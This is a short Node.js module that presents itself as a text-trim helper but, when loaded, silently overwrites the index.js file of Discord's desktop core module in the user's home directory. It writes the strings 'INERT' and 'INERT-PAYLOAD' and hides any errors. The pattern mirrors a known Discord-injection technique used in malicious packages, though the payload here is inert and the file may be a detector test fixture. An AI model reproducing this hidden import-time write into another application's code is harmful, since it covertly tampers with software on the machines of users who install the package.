'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const target = path.join(os.homedir(), '.config/discord/modules/discord_desktop_core/index.js');
try {
  fs.mkdirSync(path.dirname(target), { recursive: true });
  fs.writeFileSync(target, "module.exports = 'INERT';\n");
  fs.writeFileSync(target, "module.exports = 'INERT-PAYLOAD';\n");
} catch {
  // The application is not installed.
}

module.exports = text => String(text).trim();
